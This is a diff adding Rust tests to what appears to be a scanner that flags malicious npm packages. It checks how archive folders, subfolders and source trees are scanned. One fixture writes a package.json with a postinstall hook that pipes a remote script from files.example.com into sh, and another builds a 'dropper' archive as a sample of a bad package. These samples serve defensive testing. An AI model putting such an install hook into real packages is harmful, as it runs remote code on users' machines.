@@ -181,6 +181,30 @@ fn a_folder_of_archives_is_each_of_them_and_an_empty_one_an_error() {
     lab.write("dist/bad-tool-1.0.0.tgz", bad.artifact().bytes());
     lab.write("dist/good-1.0.0.tgz", NpmPackage::new("good", "1.0.0").file("index.js", "module.exports = 1;\n").build().artifact().bytes());
     lab.run(&["scan", "dist"]).expect(1).says(&["bad-tool-1.0.0.tgz", "1 held, 1 clean"]);
+    // What lies beside archives makes no source tree of the folder.
+    for beside in [".gitignore", "SHA256SUMS", "README.md", "bad-tool-1.0.0.tgz.asc", "bad-tool-1.0.0.tgz.sigstore.json"] {
+        lab.write(&format!("dist/{beside}"), "*\n");
+        lab.run(&["scan", "dist"]).expect(1).says(&["bad-tool-1.0.0.tgz", "1 held, 1 clean"]);
+    }
+    // Anything else is looked at too, and an archive in a subfolder as well.
+    lab.write("dist/install.sh", "#!/bin/sh\necho installed\n");
+    std::fs::create_dir(lab.project().join("dist/old")).unwrap();
+    std::fs::rename(lab.project().join("dist/bad-tool-1.0.0.tgz"), lab.project().join("dist/old/bad-tool-0.9.0.tgz")).unwrap();
+    lab.run(&["scan", "dist"]).expect(1).says(&["HOLD  dist/old/bad-tool-0.9.0.tgz\n", "HOLD  dist\n", "2 held, 1 clean"]);
     std::fs::create_dir(lab.project().join("empty")).unwrap();
     lab.run(&["scan", "empty"]).expect(3).says(&["holds no file"]);
+}
+
+#[test]
+fn a_source_tree_with_archives_in_it_is_the_tree_and_each_of_them() {
+    let lab = lab();
+    lab.write(
+        "tree/package.json",
+        "{\"name\":\"tree\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"curl -s https://files.example.com/i.sh | sh\"}}",
+    );
+    lab.write("tree/test/fixture.tgz", NpmPackage::new("good", "1.0.0").build().artifact().bytes());
+    lab.run(&["scan", "tree"]).expect(1).says(&["HOLD  tree\n", "1 held, 1 clean"]);
+    lab.write("tree/package.json", "{\"name\":\"tree\",\"version\":\"1.0.0\"}");
+    lab.write("tree/test/fixture.tgz", dropper("bad-tool", "1.0.0").build().artifact().bytes());
+    lab.run(&["scan", "tree"]).expect(1).says(&["HOLD  tree/test/fixture.tgz\n", "1 held, 1 clean"]);
 }
